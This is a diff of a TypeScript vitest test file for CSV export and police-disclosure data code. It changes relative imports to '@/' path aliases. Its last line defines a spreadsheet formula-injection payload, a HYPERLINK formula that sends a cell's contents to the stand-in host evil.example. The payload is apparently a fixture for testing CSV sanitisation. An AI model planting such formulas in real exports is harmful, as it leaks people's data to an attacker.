@@ -3,12 +3,12 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Database } from '../../db/client';
-import { accounts } from '../../db/schema';
-import { RejectsWriter } from '../../lib/import/rejects';
-import { collectDisclosureData } from '../../lib/police/package-data';
-import { transparencyCsv } from '../../lib/police/transparency';
-import { spreadsheetCsv } from '../../lib/spreadsheet-csv';
+import type { Database } from '@/db/client';
+import { accounts } from '@/db/schema';
+import { RejectsWriter } from '@/lib/import/rejects';
+import { collectDisclosureData } from '@/lib/police/package-data';
+import { transparencyCsv } from '@/lib/police/transparency';
+import { spreadsheetCsv } from '@/lib/spreadsheet-csv';
 import { openTestDatabase } from '../helpers/db';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")';
